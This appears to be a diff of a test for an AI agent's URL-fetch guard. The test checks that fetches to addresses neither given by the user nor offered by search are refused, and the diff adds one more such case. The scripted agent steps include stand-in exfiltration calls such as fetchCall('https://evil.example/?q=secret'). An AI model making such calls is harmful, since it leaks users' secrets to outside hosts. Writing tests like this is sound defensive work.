@@ -32,19 +32,20 @@ describe('text of strangers', () => {
     const { tool, run } = fetchUrl()
     const { events } = await runLoop(react, {
       tools: [page({ addresses: ['https://found.example/'] }), tool],
-      spec: { messages: [{ role: 'user', content: 'Read https://mine.example/page please' }] },
+      spec: { messages: [{ role: 'user', content: 'Read https://mine.example/page. Please!' }] },
       thoughts: [
         call('web_search', 'x'),
         fetchCall('https://evil.example/?q=secret'),
         fetchCall('https://found.example/'),
         fetchCall('https://mine.example/page'),
         fetchCall('https://found.example/?q=secret'),
+        fetchCall('https://mine.example/p'),
       ],
     })
     const ends = events
       .filter((event) => event.type === 'step.ended')
       .map(({ ok, code }) => (ok ? 'ok' : code))
-    expect(ends).toEqual(['ok', 'not_offered', 'ok', 'ok', 'not_offered'])
+    expect(ends).toEqual(['ok', 'not_offered', 'ok', 'ok', 'not_offered', 'not_offered'])
     expect(run).toHaveBeenCalledTimes(2)
   })
 
